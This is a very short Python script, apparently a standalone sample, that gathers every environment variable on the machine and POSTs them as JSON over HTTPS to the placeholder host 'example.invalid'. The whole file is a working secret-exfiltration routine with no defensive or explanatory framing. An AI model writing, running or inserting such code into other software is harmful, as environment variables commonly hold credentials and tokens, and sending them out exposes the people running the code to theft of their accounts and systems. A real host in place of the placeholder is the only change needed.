import http.client
import json
import os


def send(data):
    connection = http.client.HTTPSConnection("example.invalid")
    connection.request("POST", "/", json.dumps(data))


send({name: value for name, value in os.environ.items()})
